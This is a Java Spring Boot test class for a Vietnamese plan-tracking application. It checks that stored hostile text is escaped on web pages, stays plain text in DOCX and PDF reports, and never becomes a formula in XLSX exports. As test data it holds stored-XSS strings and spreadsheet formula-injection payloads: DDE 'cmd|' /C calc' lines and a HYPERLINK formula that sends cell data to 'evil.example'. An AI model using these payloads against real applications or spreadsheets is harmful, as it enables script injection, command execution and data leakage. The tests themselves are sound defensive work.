package vn.plantrack.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;

import java.io.ByteArrayInputStream;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.extractor.XWPFWordExtractor;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.servlet.MockMvc;

import vn.plantrack.extract.DocumentInfo;
import vn.plantrack.extract.Extraction;
import vn.plantrack.extract.PeriodValue;
import vn.plantrack.extract.TaskItem;
import vn.plantrack.investment.CapitalPlans;
import vn.plantrack.investment.MonthlyReport;
import vn.plantrack.investment.NewProject;
import vn.plantrack.investment.Projects;
import vn.plantrack.registry.DocumentImport;
import vn.plantrack.registry.PlanConfirmation;
import vn.plantrack.registry.Role;
import vn.plantrack.registry.UserAccounts;
import vn.plantrack.reporting.DataEntryWorkbooks;
import vn.plantrack.reporting.PlanReports;
import vn.plantrack.reporting.ReportFormat;
import vn.plantrack.search.SearchIndex;
import vn.plantrack.support.TestDatabases;
import vn.plantrack.tracking.SonLaPlans;

/**
 * Hostile text stored through the normal ways in (a confirmed plan's task names and lead agency, a user
 * name, a project) is shown as text everywhere: escaped on every page, plain text in DOCX and PDF, and never
 * a formula in the XLSX exports.
 */
@SpringBootTest(properties = "plantrack.samples.import-on-first-start=false")
@AutoConfigureMockMvc
class StoredTextSecurityTests {

	static final String SCRIPT = "<script>alert(1)</script>";

	static final String IMG = "\"><img src=x onerror=alert(1)>";

	static final String SCRIPT_TASK = "Triển khai " + SCRIPT + " chuyển đổi số";

	static final String IMG_AGENCY = "Sở Khoa học " + IMG;

	static final String HOSTILE_USER = "x" + SCRIPT;

	/** Text a spreadsheet would run as a formula, as task names (OWASP CSV/formula injection list). */
	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")",
			"+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");

	/** Due 31/03/2026: overdue in the report of the first half of 2026, which lists overdue tasks by name. */
	static final PeriodValue QUARTER_1 = new PeriodValue("Quý I/2026", LocalDate.of(2026, 1, 1), LocalDate.of(2026, 3, 31),
			LocalDate.of(2026, 3, 31), null, null);

	@Autowired
	MockMvc mvc;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	DocumentImport documentImport;

	@Autowired
	PlanConfirmation confirmation;

	@Autowired
	UserAccounts users;

	@Autowired
	SearchIndex search;

	@Autowired
	PlanReports reports;

	@Autowired
	DataEntryWorkbooks workbooks;

	@Autowired
	Projects projects;

	@Autowired
	MonthlyReport monthlyReport;

	@Autowired
	CapitalPlans capitalPlans;

	static long plan;

	@DynamicPropertySource
	static void database(DynamicPropertyRegistry registry) {
		TestDatabases.h2(registry);
	}

	@BeforeEach
	void hostilePlanUserAndProject() throws Exception {
		if (plan != 0 && users.account(HOSTILE_USER).isPresent()) {
			return;
		}
		List<TaskItem> tasks = new ArrayList<>();
		tasks.add(new TaskItem("1", "I", SCRIPT_TASK, List.of(IMG_AGENCY), List.of("Sở Tài chính"), QUARTER_1, null, 10));
		for (int i = 0; i < FORMULAS.size(); i++) {
			tasks.add(new TaskItem(String.valueOf(i + 2), "I", FORMULAS.get(i), List.of("Sở Tài chính"), List.of(),
					QUARTER_1, null, 11 + i));
		}
		DocumentInfo info = new DocumentInfo("Kế hoạch", "99/KH-UBND", LocalDate.of(2026, 1, 5), "UBND tỉnh Sơn La",
				"Sơn La", "2026", null, List.of(), List.of());
		plan = SonLaPlans.register(documentImport, confirmation, jdbc,
				new Extraction("hostile.txt", info, List.of(), tasks, List.of(), List.of(), List.of(), List.of()));
		users.create(HOSTILE_USER, "Mat-khau-Hop-le-2026", Role.MONITOR, null, "test");
		long project = projects.create(new NewProject("son-la", "=CMD()", "=HYPERLINK(\"http://evil.example\",\"x\") " + SCRIPT,
				"NSNN", "Giao thông", "@SUM(1+1)", IMG_AGENCY, "2026", LocalDate.of(2026, 1, 1), LocalDate.of(2026, 12, 31)),
				"test").id();
		capitalPlans.assign(project, 2026, new java.math.BigDecimal("1000"), "Quyết định 1/QĐ-UBND",
				LocalDate.of(2026, 1, 10), "test");
		search.rebuild();
	}

	@Test
	void everyPageShowingTheHostileTextShowsItEscaped() throws Exception {
		long task = jdbc.sql("SELECT id FROM task WHERE document_id = ? AND source_line = 10").param(plan)
			.query(Long.class).single();
		long agency = jdbc.sql("SELECT id FROM agency WHERE name = ?").param(IMG_AGENCY).query(Long.class).single();
		// pages that must show the stored text (escaped), then pages that may show it
		List<String> showing = List.of("/plans/" + plan, "/tasks/" + task, "/agencies/" + agency, "/agencies",
				"/admin/users", "/search?q=chuy%E1%BB%83n+%C4%91%E1%BB%95i+s%E1%BB%91", "/investment/projects");
		List<String> others = List.of("/overview", "/documents", "/documents/" + plan, "/findings", "/audit",
				"/investment/rankings", "/search?q=" + java.net.URLEncoder.encode(SCRIPT, "UTF-8"),
				"/search?q=" + java.net.URLEncoder.encode(IMG, "UTF-8"));
		for (String page : showing) {
			String html = page(page);
			assertThat(html).as(page).containsAnyOf("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(1)&gt;");
			assertInert(page, html);
		}
		for (String page : others) {
			assertInert(page, page(page));
		}
	}

	@Test
	void theDocxAndPdfReportsCarryTheHostileTextAsPlainText() throws Exception {
		byte[] docx = reports.render(plan, "2026-H1", ReportFormat.DOCX).orElseThrow().content();
		try (XWPFDocument document = new XWPFDocument(new ByteArrayInputStream(docx));
				XWPFWordExtractor extractor = new XWPFWordExtractor(document)) {
			assertThat(extractor.getText()).contains(SCRIPT_TASK, IMG_AGENCY);
		}
		byte[] pdf = reports.render(plan, "2026-H1", ReportFormat.PDF).orElseThrow().content();
		try (var document = Loader.loadPDF(pdf)) {
			// the PDF is laid out from escaped XHTML: the tag survives as visible characters, not as markup (the
			// narrow table column wraps it, hence the comparison without white space)
			String text = new PDFTextStripper().getText(document).replaceAll("\\s+", "");
			assertThat(text).contains(SCRIPT, "\"><imgsrc=xonerror=alert(1)>");
		}
	}

	@Test
	void noExportedWorkbookTurnsStoredTextIntoAFormula() throws Exception {
		List<String> neutralised = new ArrayList<>();
		neutralised.addAll(checkWorkbook("report", reports.render(plan, "2026-H1", ReportFormat.XLSX).orElseThrow().content()));
		neutralised.addAll(checkWorkbook("data entry",
				workbooks.workbook(plan, "Sở Tài chính", "2026-H1").orElseThrow()));
		neutralised.addAll(checkWorkbook("investment", monthlyReport.xlsx(2026, 11, "son-la")));
		// the hostile task names reached both plan workbooks, the project name the investment one
		assertThat(neutralised).contains("report: " + FORMULAS.get(0), "data entry: " + FORMULAS.get(0),
				"report: " + FORMULAS.get(3), "investment: @SUM(1+1)");
	}

	/** Every cell: no formula at all; text starting with = + - @ tab CR is quote-prefixed. Returns those texts. */
	private static List<String> checkWorkbook(String name, byte[] xlsx) throws Exception {
		List<String> risky = new ArrayList<>();
		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
			for (Sheet sheet : workbook) {
				for (Row row : sheet) {
					for (Cell cell : row) {
						String where = name + " " + sheet.getSheetName() + "!" + cell.getAddress();
						assertThat(cell.getCellType()).as(where).isNotEqualTo(CellType.FORMULA);
						if (cell.getCellType() == CellType.STRING && !cell.getStringCellValue().isEmpty()
								&& "=+-@\t\r".indexOf(cell.getStringCellValue().charAt(0)) >= 0) {
							assertThat(cell.getCellStyle().getQuotePrefixed()).as(where + " quote prefix").isTrue();
							risky.add(name + ": " + cell.getStringCellValue());
						}
					}
				}
			}
		}
		return risky;
	}

	private String page(String path) throws Exception {
		var response = mvc.perform(get(java.net.URI.create(path)).with(user(users.loadUserByUsername("admin"))))
			.andReturn()
			.getResponse();
		assertThat(response.getStatus()).as(path).isEqualTo(200);
		return response.getContentAsString(java.nio.charset.StandardCharsets.UTF_8);
	}

	private static void assertInert(String page, String html) {
		// the characters may stay (escaped, they are harmless text); the markup must not
		assertThat(html).as(page).doesNotContain(SCRIPT).doesNotContainPattern("<img[^>]*onerror");
	}
}
